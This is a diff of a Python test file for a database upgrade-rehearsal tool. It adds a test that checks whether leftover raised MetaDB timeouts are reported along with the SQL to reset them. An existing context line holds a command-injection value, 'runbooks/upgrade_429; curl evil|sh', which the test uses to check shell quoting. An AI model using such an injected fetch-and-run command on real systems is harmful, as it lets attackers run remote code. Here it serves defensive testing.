@@ -227,3 +227,16 @@ def test_outside_text_is_printed_escaped_and_advice_is_quoted_for_a_shell(env, t
     advice = out.split("next:\n")[1]
     assert "pytest 'runbooks/upgrade_429; curl evil|sh' --env" in advice, advice
     assert "runbooks/upgrade_429; curl" not in advice.replace("'runbooks/upgrade_429; curl", "")
+
+
+def test_timeouts_a_killed_rehearsal_left_raised_are_said_with_how_to_set_them_back(env, tmp_path, capsys):
+    folder = tmp_path / "s" / "rehearsals" / "20261207T010203000000Z"
+    folder.mkdir(parents=True)
+    (folder / "ob_globals_before.json").write_text(
+        json.dumps({"metadb": "10.0.0.1:2881", "before": {"ob_query_timeout": 10000000, "ob_trx_timeout": 100000000}})
+    )
+    rc, out = status(env, capsys)
+    assert rc == 0 and "a rehearsal ended between raising the MetaDB's timeouts" in out, out
+    assert "SET GLOBAL ob_query_timeout = 10000000, ob_trx_timeout = 100000000" in out
+    (folder / "ob_globals_before.json").unlink()
+    assert "raising the MetaDB's timeouts" not in status(env, capsys)[1]
